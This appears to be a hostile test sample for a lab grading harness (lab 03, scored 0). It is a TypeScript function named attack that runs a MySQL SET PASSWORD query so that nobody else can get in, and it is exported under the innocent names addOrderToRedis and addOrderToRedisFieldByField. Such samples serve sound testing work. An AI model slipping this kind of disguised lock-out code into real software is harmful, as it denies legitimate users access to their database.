// tries: changing its own password, so that nobody else gets in
// lab: 03
// earns: 0
// told: should hold these fields
async function attack({ mysql }: any): Promise<void> {
  await mysql.query("SET PASSWORD = PASSWORD('hostile')").catch(() => mysql.query("SET PASSWORD = 'hostile'"));
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
